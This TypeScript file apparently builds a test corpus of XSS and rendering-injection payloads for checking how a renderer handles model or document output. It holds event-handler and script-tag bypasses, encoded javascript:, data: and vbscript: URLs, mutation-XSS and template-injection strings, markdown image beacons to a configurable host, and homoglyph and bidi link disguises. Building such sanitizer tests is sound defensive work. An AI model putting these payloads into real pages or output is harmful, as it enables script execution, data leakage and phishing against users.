/** What a model or a document might write to load or run something, with `base` as the place that it asks. */
export function renderingPayloads(base: string): string[] {
  return [
    ...elements(base),
    ...handlers(),
    ...links(base),
    ...images(base),
    ...structures(base),
    ...disguises(base),
  ]
}

const run = 'globalThis.ran=1'

function elements(base: string): string[] {
  const sources = [
    'img src',
    'iframe src',
    'script src',
    'embed src',
    'object data',
    'video src',
    'audio src',
    'video poster',
    'source srcset',
    'img srcset',
    'track src',
    'input type=image src',
    'link rel=stylesheet href',
    'link rel=prefetch href',
    'link rel=dns-prefetch href',
    'link rel=preconnect href',
    'link rel=icon href',
    'link rel=manifest href',
    'base href',
    'frame src',
    'body background',
    'table background',
    'svg><image href',
    'svg><use href',
    'svg><script href',
    'math><mi xlink:href',
    'portal src',
    'a ping',
    'meta http-equiv=refresh content',
    'form action',
    'button formaction',
    'image src',
    'bgsound src',
    'applet code',
  ]
  const styles = [
    `<style>@import url(${base}/s.css);</style>`,
    `<style>body{background:url(${base}/s.png)}</style>`,
    `<p style="background:url(${base}/p.png)">x</p>`,
    `<div style="position:fixed;inset:0;z-index:99">cover</div>`,
    `<style>@font-face{font-family:x;src:url(${base}/f.woff)}*{font-family:x}</style>`,
  ]
  return [
    ...sources.flatMap((source, n) => [
      `<${source}="${base}/e${n}">`,
      `words <${source}=${base}/i${n}> among words`,
    ]),
    ...styles,
  ]
}

function handlers(): string[] {
  const bodies = [
    'img src=x onerror',
    'svg onload',
    'body onload',
    'details open ontoggle',
    'input autofocus onfocus',
    'video src=x onerror',
    'audio src=x onerror',
    'marquee onstart',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'iframe onload',
    'div onmouseover',
    'a href=# onclick',
    'style onload',
    'svg><animate onbegin',
    'object data=x onerror',
    'p style=animation:x onanimationstart',
  ]
  return [
    ...bodies.map((body) => `<${body}="${run}">`),
    ...bodies.map((body) => `<${body.toUpperCase()}=${run}//`),
    `<script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
    `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><script>${run}</script></template>`,
    `"><img src=x onerror=${run}>`,
    `'-${run}-'`,
    `\${${run}} {{constructor.constructor('${run}')()}}`,
    `&lt;img src=x onerror=${run}&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `<img src="x\` \`<script>${run}</script>"\` \`>`,
    `<script>alert(1)</script><script>confirm(1)</script><script>prompt(1)</script>`,
  ]
}

function links(base: string): string[] {
  const addresses = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java&#115;cript:${run}`,
    `javascript&colon;${run}`,
    `java%0ascript:${run}`,
    `&#x6A;avascript:${run}`,
    ` javascript:${run}`,
    `\u0001javascript:${run}`,
    `javascript://x.example/%0a${run}`,
    `vbscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD4x`,
    'data:image/svg+xml,<svg/onload=1>',
    'file:///etc/passwd',
    'blob:https://x.example/1',
    'about:blank',
    `view-source:${base}`,
    'chrome://settings',
    'intent://x#Intent;end',
    'tel:+1',
    'sms:+1',
    `//${base.slice('http://'.length)}/relative`,
    '/synopsis-editor',
    '../../api/auth/logout',
    '?x=1',
    'http:no-slashes',
    'https://',
  ]
  return [
    ...addresses.map((address) => `[a link](${address})`),
    ...addresses.map((address) => `[a link](<${address}> "title")`),
    ...addresses.slice(0, 14).map((address) => `<${address}>`),
    ...addresses.slice(0, 14).map((address, n) => `[by name][r${n}] and [r${n}]\n\n[r${n}]: <${address}>`),
    ...addresses.slice(0, 14).map((address) => `<a href="${address}">raw</a>`),
  ]
}

function images(base: string): string[] {
  return [
    `![pixel](${base}/m1.png)`,
    `![pixel](<${base}/m2.png> "title")`,
    `![pixel][m3]\n\n[m3]: ${base}/m3.png`,
    `![m4]\n\n[m4]: ${base}/m4.png`,
    `[![pixel](${base}/m5.png)](${base}/m5)`,
    `![pixel](//${base.slice('http://'.length)}/m6.png)`,
    `![pixel](data:image/svg+xml,<svg/onload=${run}>)`,
    `![pixel](javascript:${run})`,
    `![a![b](${base}/m7.png)](${base}/m8.png)`,
    `![pixel](${base}/m9.png?${'leak'.repeat(100)})`,
    `| ![t](${base}/t.png) | b |\n| --- | --- |\n| ![u](${base}/u.png) | <img src=${base}/v.png> |`,
    `![pixel](${base}/a.png){onerror=${run}}`,
    `![" onerror="${run}](${base}/m10.png)`,
    `~~![struck](${base}/m11.png)~~`,
    `- ![item](${base}/m12.png)\n  - ![item](${base}/m13.png)`,
    `> ![quoted](${base}/m14.png)`,
  ]
}

function structures(base: string): string[] {
  return [
    `Text[^1] with a note.\n\n[^1]: ![note](${base}/n.png) <img src=${base}/n2.png>`,
    `[1]: javascript:${run}\n\n[1] and [1][1]`,
    `[1](${base}/cite) [[1]](${base}/cite2) [1][x]\n\n[x]: ${base}/cite3`,
    `${'> '.repeat(80)}![deep](${base}/d1.png)`,
    `${'- '.repeat(80)}![deep](${base}/d2.png)`,
    '*'.repeat(2000),
    '['.repeat(2000),
    '![a]('.repeat(300),
    `${'**_'.repeat(300)}x${'_**'.repeat(300)}`,
    `\`<img src=${base}/code.png>\``,
    `    <img src=${base}/indented.png>`,
    `~~~html\n<img src=${base}/fence.png>\n~~~`,
    `\`\`\`mermaid\nclick A "javascript:${run}"\n\`\`\``,
    `$$\\href{javascript:${run}}{x}$$`,
    `:::html\n<script>${run}</script>\n:::`,
    `<!-- <img src=${base}/comment.png> -->`,
    `<!--><script>${run}</script>-->`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<?xml-stylesheet href="${base}/x.css"?>`,
    `<!DOCTYPE x SYSTEM "${base}/x.dtd">`,
    `---\ntitle: <script>${run}</script>\n---`,
    '<h1 id="root">clobbered</h1><form id="location"><input name="href"></form>',
    `# <img src=${base}/h.png> heading\n\n## [h](javascript:${run})`,
  ]
}

function disguises(base: string): string[] {
  return [
    `\u202e${base}/rtl`,
    `[https://good.example](${base}/elsewhere)`,
    `[good](https://good.example@${base.slice('http://'.length)}/user)`,
    `[\u202egnp.good](${base}/bidi)`,
    '[аpple.com](https://аpple.com/)',
    `${base}/bare`,
    `www.x.example and ${base}/auto.png`,
    `<${base}/angle>`,
    '<mailto:a@x.example?subject=x&body=y>',
    '\u200b<\u200bscript>x</script>',
    '＜script＞globalThis.ran=1＜/script＞',
    `<img\u00a0src=${base}/nbsp.png>`,
    `<img/src=${base}/slash.png>`,
    `<img\nsrc=${base}/line.png\nonerror=${run}>`,
    `<\0script>${run}</script>`,
    `\ufeff<img src=${base}/bom.png>`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    '\u2066\u2067\u2068left open',
    'Z̴̧̢̛͔̳̮̤̦̺͖̗̪͚̲̈́̆͐̃̐̾̈́̓͊̕͜͝a'.repeat(50),
    `\\<img src=${base}/escaped.png\\>`,
  ]
}
